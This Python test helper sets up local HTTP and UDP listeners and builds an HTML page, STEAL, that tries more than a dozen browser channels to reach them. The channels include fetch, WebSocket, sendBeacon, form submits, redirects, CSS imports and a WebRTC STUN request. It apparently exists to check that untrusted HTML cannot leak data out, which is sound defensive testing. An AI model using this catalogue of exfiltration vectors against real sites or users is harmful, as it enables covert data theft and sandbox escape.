"""Foreign servers on this machine, and a file that tries everything to reach them."""

from __future__ import annotations

import socket
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


class Sinks:
    """Foreign servers on this machine, HTTP (with it WebSocket) and UDP (DNS, STUN): what reaches them is kept."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        sinks = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_: Any) -> None:
                pass

            def do_GET(self) -> None:
                sinks.heard.append(f"HTTP {self.path} {self.headers.get('Upgrade', '')}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.http.daemon_threads = True
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                self.heard.append(f"UDP {self.udp.recvfrom(2048)[0][:20]!r}")
            except OSError:
                return

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.http.server_port}"

    @property
    def udp_port(self) -> int:
        return self.udp.getsockname()[1]

    def close(self) -> None:
        self.http.shutdown()
        self.http.server_close()
        self.udp.close()

    def prove(self) -> None:
        """Has every kind of message sent to them: they are kept, and forgotten again."""
        urllib.request.urlopen(f"http://{self.host}/prove", timeout=20).close()
        upgrade = {"Connection": "Upgrade", "Upgrade": "websocket"}
        urllib.request.urlopen(urllib.request.Request(f"http://{self.host}/prove", headers=upgrade), timeout=20).close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"prove", ("127.0.0.1", self.udp_port))
        limit = time.monotonic() + 20
        while len(self.heard) < 3:
            assert time.monotonic() < limit, self.heard
            time.sleep(0.01)
        self.heard.clear()


STEAL = """<!doctype html><p>here</p><img src="http://HOST/img">
<link rel=stylesheet href="http://HOST/css">
<link rel=prefetch href="http://HOST/prefetch">
<link rel=dns-prefetch href="//HOST">
<meta http-equiv=refresh content="1;url=http://HOST/refresh">
<style>body{background:url(http://HOST/background)}
@import url(http://HOST/import);</style>
<iframe src="http://HOST/frame"></iframe>
<object data="http://HOST/object"></object>
<video src="http://HOST/video"></video>
<form id=f action="http://HOST/form"></form>
<a ping="http://HOST/ping" href="http://HOST/a">x</a>
<svg><image href="http://HOST/svg"/></svg><script>
for (const go of [() => fetch('http://HOST/fetch'),
  () => new WebSocket('ws://HOST/ws'),
  () => navigator.sendBeacon('http://HOST/beacon'),
  () => f.submit(),
  () => open('http://HOST/open'),
  () => { location = 'http://HOST/location'; },
  () => { top.location = 'http://HOST/top'; },
  () => { parent.document.title = 'x'; },
  () => new EventSource('http://HOST/es'),
  () => import('http://HOST/import.js'),
  () => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
    p.createDataChannel('x');
    p.createOffer().then((o) => p.setLocalDescription(o)); }])
  try { go(); } catch {}
</script>"""


def stealing(sinks: Sinks) -> str:
    """The file, for these sinks."""
    return STEAL.replace("HOST", sinks.host).replace("UDP", str(sinks.udp_port))
